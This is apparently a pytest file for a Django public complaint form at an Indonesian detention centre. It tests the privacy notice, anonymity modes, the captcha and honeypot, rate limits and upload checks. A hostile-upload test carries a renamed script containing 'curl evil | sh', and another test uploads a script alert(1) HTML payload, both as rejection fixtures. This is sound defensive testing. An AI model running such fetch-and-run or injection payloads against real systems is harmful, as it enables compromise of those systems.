"""The public complaint form: no login, no NIK, privacy notice, honeypot, challenge, limits."""

import re
from datetime import timedelta

import pytest
import time_machine
from captcha.models import CaptchaStore
from django.urls import reverse
from django.utils import timezone

from pengaduan import services
from pengaduan.models import Attachment, Channel, Complaint, IdentityMode, ServiceCategory, Status
from rutan.models import UnitProfile
from tests.pengaduan.factories import jpeg_bytes, make_complaint, png_bytes, upload

URL = reverse("pengaduan:submit")


@pytest.fixture
def data(db):
    return {
        "identity_mode": IdentityMode.IDENTIFIED,
        "reporter_name": "Sri Wahyuni",
        "reporter_email": "Sri@Example.com",
        "reporter_phone": "+62 812-3450-0001",
        "service": ServiceCategory.objects.first().pk,
        "incident_date": "",
        "description": "Latihan karawitan hari Rabu dibatalkan tanpa pemberitahuan.",
        "expected_outcome": "Jadwal diumumkan lebih awal.",
        "website": "",
        "captcha_0": "kunci",
        "captcha_1": "PASSED",
        "consent": "on",
    }


def test_form_is_public_with_privacy_notice_and_no_nik(anon_client):
    profile = UnitProfile.load()
    profile.data_protection_contact = "Petugas PDP, pdp@rutan.test"
    profile.save()
    response = anon_client.get(URL)
    content = response.content.decode()
    assert response.status_code == 200
    assert "Pemberitahuan privasi" in content
    assert "Petugas PDP, pdp@rutan.test" in content
    assert "dihapus 730 hari setelah pengaduan selesai" in content
    assert 'name="nik"' not in content.lower() and "Nomor Induk" not in content
    assert 'name="captcha_1"' in content and 'name="website"' in content
    assert "Dirahasiakan (hanya ULP dan Kepala Rutan)" in content


def test_service_standard_page_links_to_the_form(anon_client):
    content = anon_client.get(reverse("home")).content.decode()
    assert URL in content and reverse("pengaduan:track") in content


def test_submission_gives_number_and_code_once(
    anon_client, data, captcha_passes, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = anon_client.post(URL, data)
    assert response.status_code == 302
    assert response["Location"] == reverse("pengaduan:submitted")
    complaint = Complaint.objects.get()
    assert complaint.channel == Channel.WEBSITE and complaint.status == Status.DITERIMA
    assert complaint.reporter_email == "sri@example.com"
    assert complaint.reporter_phone == "081234500001"
    assert complaint.created_by is None
    assert complaint.events.get().actor_role == "Pelapor"

    page = anon_client.get(reverse("pengaduan:submitted")).content.decode()
    assert complaint.number in page
    code = re.search(r'data-testid="tracking-code">([^<]+)<', page)[1]
    assert services.find_by_tracking(number=complaint.number, code=code) == complaint
    again = anon_client.get(reverse("pengaduan:submitted"))
    assert again.status_code == 302  # the code is not shown twice

    assert len(mailoutbox) == 1
    assert mailoutbox[0].to == ["sri@example.com"]
    assert complaint.number in mailoutbox[0].body and code in mailoutbox[0].body


def test_submitter_may_open_the_tracking_page_right_away(anon_client, data, captcha_passes):
    anon_client.post(URL, data)
    complaint = Complaint.objects.get()
    response = anon_client.get(reverse("pengaduan:tracking", args=[complaint.number]))
    assert response.status_code == 200


def test_anonymous_complaint_stores_no_identity(anon_client, data, captcha_passes):
    data["identity_mode"] = IdentityMode.ANONIM
    anon_client.post(URL, data)
    complaint = Complaint.objects.get()
    assert (complaint.reporter_name, complaint.reporter_email, complaint.reporter_phone) == (
        "", "", "",
    )  # fmt: skip
    assert complaint.identity_mode == IdentityMode.ANONIM


def test_rahasia_complaint_keeps_identity_for_ulp(anon_client, data, captcha_passes):
    data["identity_mode"] = IdentityMode.RAHASIA
    anon_client.post(URL, data)
    complaint = Complaint.objects.get()
    assert complaint.identity_mode == IdentityMode.RAHASIA
    assert complaint.reporter_name == "Sri Wahyuni"


def test_name_is_required_unless_anonymous(anon_client, data, captcha_passes):
    data["reporter_name"] = ""
    response = anon_client.post(URL, data)
    assert response.status_code == 400
    assert "Nama wajib diisi, atau pilih Anonim." in response.content.decode()
    assert not Complaint.objects.exists()


def test_honeypot_stops_bots(anon_client, data, captcha_passes):
    data["website"] = "http://spam.example"
    response = anon_client.post(URL, data)
    assert response.status_code == 400
    assert "Pengaduan tidak dapat diproses" in response.content.decode()
    assert not Complaint.objects.exists()


def test_wrong_challenge_answer_is_refused(anon_client, data, captcha_passes):
    data["captcha_1"] = "SALAH"
    response = anon_client.post(URL, data)
    assert response.status_code == 400
    assert "Kode keamanan salah" in response.content.decode()
    assert not Complaint.objects.exists()


def test_challenge_is_real_outside_test_mode(anon_client, data):
    response = anon_client.post(URL, data)  # "PASSED" is not the answer of a real challenge
    assert response.status_code == 400
    assert not Complaint.objects.exists()


def test_challenge_with_the_right_answer_passes(anon_client, data):
    from captcha.models import CaptchaStore

    key = CaptchaStore.generate_key()
    data["captcha_0"] = key
    data["captcha_1"] = CaptchaStore.objects.get(hashkey=key).response
    assert anon_client.post(URL, data).status_code == 302


def test_submissions_are_rate_limited_per_client(anon_client, data, captcha_passes, settings):
    settings.PENGADUAN_SUBMIT_RATE = "2/h"
    settings.PENGADUAN_MAX_OPEN_PER_CONTACT = 10
    for _ in range(2):
        assert anon_client.post(URL, data).status_code == 302
    response = anon_client.post(URL, data)
    assert response.status_code == 429
    assert "Terlalu banyak permintaan" in response.content.decode()
    assert Complaint.objects.count() == 2
    other_client = anon_client.__class__(REMOTE_ADDR="10.0.0.9")
    assert other_client.post(URL, data).status_code == 302


def test_rate_limit_follows_the_proxy_header(anon_client, data, captcha_passes, settings):
    settings.PENGADUAN_SUBMIT_RATE = "1/h"
    settings.PROXY_COUNT = 1
    settings.PENGADUAN_MAX_OPEN_PER_CONTACT = 10
    assert anon_client.post(URL, data, HTTP_X_FORWARDED_FOR="203.0.113.5").status_code == 302
    assert anon_client.post(URL, data, HTTP_X_FORWARDED_FOR="203.0.113.5").status_code == 429
    assert anon_client.post(URL, data, HTTP_X_FORWARDED_FOR="203.0.113.6").status_code == 302


def test_open_complaints_per_address_and_contact_are_capped_without_a_count(
    anon_client, data, captcha_passes, settings
):
    settings.PENGADUAN_MAX_OPEN_PER_CONTACT = 2
    settings.PENGADUAN_SUBMIT_RATE = "100/h"
    assert anon_client.post(URL, data).status_code == 302
    assert anon_client.post(URL, data).status_code == 302
    response = anon_client.post(URL, data)
    assert response.status_code == 400
    html = response.content.decode()
    assert "Pengaduan Anda sebelumnya dengan kontak yang sama masih diproses" in html
    assert not re.search(r"Masih ada \d|\b2 pengaduan", html)  # never how many
    assert Complaint.objects.count() == 2


def test_someone_elses_complaints_with_my_phone_do_not_block_me(
    anon_client, data, captcha_passes, settings
):
    """Fake complaints sent from elsewhere with a person's contact must not silence them."""
    settings.PENGADUAN_MAX_OPEN_PER_CONTACT = 1
    settings.PENGADUAN_SUBMIT_RATE = "100/h"
    settings.PROXY_COUNT = 1
    for address in ("198.51.100.7", "198.51.100.8"):
        assert anon_client.post(URL, data, HTTP_X_FORWARDED_FOR=address).status_code == 302
    make_complaint(email="sri@example.com", phone="089999999999")  # logged by ULP
    owner = anon_client.post(URL, data, HTTP_X_FORWARDED_FOR="203.0.113.20")
    assert owner.status_code == 302
    assert Complaint.objects.count() == 4


def test_the_client_address_is_stored_only_as_a_keyed_hash(
    anon_client, data, captcha_passes, settings
):
    settings.PROXY_COUNT = 1
    assert anon_client.post(URL, data, HTTP_X_FORWARDED_FOR="203.0.113.30").status_code == 302
    complaint = Complaint.objects.get()
    assert complaint.submitter_key == services.submitter_key("203.0.113.30")
    assert "203.0.113.30" not in complaint.submitter_key
    assert not hasattr(complaint.history.first(), "submitter_key")


def test_closed_complaints_do_not_count_towards_the_cap(
    anon_client, data, captcha_passes, settings
):
    settings.PENGADUAN_MAX_OPEN_PER_CONTACT = 1
    make_complaint(Status.DITOLAK, email="sri@example.com")
    assert anon_client.post(URL, data).status_code == 302


def test_attachments_are_stored_privately_with_random_names(
    anon_client, data, captcha_passes, settings
):
    data["attachments"] = [upload("rumah saya.jpg", jpeg_bytes()), upload("b.png", png_bytes())]
    assert anon_client.post(URL, data).status_code == 302
    names = [a.file.name for a in Attachment.objects.all()]
    assert len(names) == 2
    assert all(n.startswith("pengaduan/") and "rumah" not in n for n in names)
    location = settings.STORAGES["private"]["OPTIONS"]["location"]
    assert Attachment.objects.first().file.path.startswith(location)
    assert not location.startswith(str(settings.STATIC_ROOT))


@pytest.mark.parametrize(
    ("files", "message"),
    [
        (
            [("foto.jpg", b"#!/bin/bash\ncurl evil | sh\n")],
            "hanya gambar JPG, PNG atau dokumen PDF",
        ),
        ([("besar.jpg", None)], "terlalu besar"),
        ([(f"f{i}.png", b"png") for i in range(4)], "Paling banyak 3 lampiran"),
    ],
    ids=["script-renamed-jpg", "oversized", "too-many"],
)
def test_hostile_uploads_are_refused_with_a_message(
    anon_client, data, captcha_passes, settings, files, message
):
    settings.PENGADUAN_MAX_ATTACHMENT_MB = 1
    data["attachments"] = [
        upload(
            name,
            jpeg_bytes() + b"\0" * (1024 * 1024 + 1)
            if content is None
            else png_bytes()
            if content == b"png"
            else content,
        )
        for name, content in files
    ]
    response = anon_client.post(URL, data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Complaint.objects.exists() and not Attachment.objects.exists()


def test_wrong_captcha_never_opens_the_attachments(anon_client, data, monkeypatch):
    opened = []
    monkeypatch.setattr("rutan.images.Image.open", lambda *a, **k: opened.append(a))
    data["captcha_1"] = "SALAH"
    data["attachments"] = [upload("besar.png", png_bytes(size=(2000, 2000)))]
    response = anon_client.post(URL, data)
    assert response.status_code == 400
    assert "Kode keamanan salah" in response.content.decode()
    assert opened == [] and Complaint.objects.count() == 0


def test_invalid_fields_never_open_the_attachments(anon_client, data, captcha_passes, monkeypatch):
    opened = []
    monkeypatch.setattr("rutan.images.Image.open", lambda *a, **k: opened.append(a))
    data["description"] = "pendek"
    data["attachments"] = [upload("foto.png", png_bytes())]
    assert anon_client.post(URL, data).status_code == 400
    assert opened == []


def test_attachments_are_checked_once_the_form_is_valid(anon_client, data, captcha_passes):
    data["attachments"] = [upload("a.png", b"<html><script>alert(1)</script></html>")]
    response = anon_client.post(URL, data)
    assert response.status_code == 400
    assert "diperiksa dari isinya" in response.content.decode()
    assert Complaint.objects.count() == 0


# --- Fair to honest people: time to write, limits, kept text, anonymity -------------------


def test_code_is_still_valid_after_half_an_hour_of_writing(anon_client, data):
    start = timezone.now()
    with time_machine.travel(start, tick=False):
        key = CaptchaStore.generate_key()
    data["captcha_0"] = key
    data["captcha_1"] = CaptchaStore.objects.get(hashkey=key).response
    with time_machine.travel(start + timedelta(minutes=45), tick=False):
        assert anon_client.post(URL, data).status_code == 302


def test_wrong_codes_do_not_use_up_the_submission_limit(anon_client, data, settings):
    settings.PENGADUAN_SUBMIT_RATE = "1/h"
    settings.CAPTCHA_TEST_MODE = True
    wrong = {**data, "captcha_1": "SALAH"}
    for _ in range(4):
        assert anon_client.post(URL, wrong).status_code == 400
    assert anon_client.post(URL, data).status_code == 302
    assert anon_client.post(URL, data).status_code == 429  # the accepted one counted


def test_wrong_codes_have_their_own_limit_and_the_text_is_kept(anon_client, data, settings):
    settings.PENGADUAN_CAPTCHA_FAILURE_RATE = "2/h"
    settings.CAPTCHA_TEST_MODE = True
    wrong = {**data, "captcha_1": "SALAH"}
    for _ in range(2):
        anon_client.post(URL, wrong)
    response = anon_client.post(URL, data)
    content = response.content.decode()
    assert response.status_code == 429
    assert "Terlalu banyak permintaan" in content and "Coba kirim lagi dalam" in content
    assert "menit" in content
    assert data["description"] in content  # the typed complaint is still in the form
    assert not Complaint.objects.exists()


def test_submission_limit_keeps_the_text_and_states_the_wait(anon_client, data, settings):
    settings.PENGADUAN_SUBMIT_RATE = "1/h"
    settings.PENGADUAN_MAX_OPEN_PER_CONTACT = 10
    settings.CAPTCHA_TEST_MODE = True
    assert anon_client.post(URL, data).status_code == 302
    response = anon_client.post(URL, {**data, "description": "Keluhan kedua yang cukup panjang."})
    content = response.content.decode()
    assert response.status_code == 429
    assert "Keluhan kedua yang cukup panjang." in content and "Coba kirim lagi dalam" in content


def test_form_error_says_attachments_must_be_chosen_again(anon_client, data, settings):
    settings.CAPTCHA_TEST_MODE = True
    data["description"] = "pendek"
    data["attachments"] = [upload("foto.png", png_bytes())]
    content = anon_client.post(URL, data).content.decode()
    assert "pilih lagi berkas lampirannya" in content


def test_anonymous_mode_says_no_email_is_sent(anon_client, data, settings):
    settings.CAPTCHA_TEST_MODE = True
    page = anon_client.get(URL).content.decode()
    assert "tidak ada email yang dikirim" in page and "complaint-form.js" in page
    anonymous = {**data, "identity_mode": IdentityMode.ANONIM}
    response = anon_client.post(URL, anonymous, follow=True)
    content = response.content.decode()
    assert "Tidak ada email yang dikirim" in content
    assert "dikirim ke email Anda" not in content


def test_identified_with_email_is_told_the_code_is_emailed(anon_client, data, settings):
    settings.CAPTCHA_TEST_MODE = True
    content = anon_client.post(URL, data, follow=True).content.decode()
    assert "Nomor dan kode juga dikirim ke email Anda." in content


@pytest.mark.django_db
def test_code_refresh_is_rate_limited(anon_client, settings):
    settings.CAPTCHA_REFRESH_RATE = "2/h"
    url = reverse("captcha-refresh")
    assert url == "/captcha/refresh/"
    ajax = {"HTTP_X_REQUESTED_WITH": "XMLHttpRequest"}
    for _ in range(2):
        response = anon_client.get(url, **ajax)
        assert response.status_code == 200 and "image_url" in response.json()
    assert anon_client.get(url, **ajax).status_code == 429


def test_plaintext_code_never_reaches_the_session_table(anon_client, data, captcha_passes):
    from django.contrib.sessions.models import Session

    anon_client.post(URL, data)
    stored = " ".join(str(s.get_decoded()) for s in Session.objects.all())
    page = anon_client.get(reverse("pengaduan:submitted")).content.decode()
    code = re.search(r'data-testid="tracking-code">([^<]+)<', page)[1]
    assert code not in stored
    assert "pengaduan_submitted" not in stored
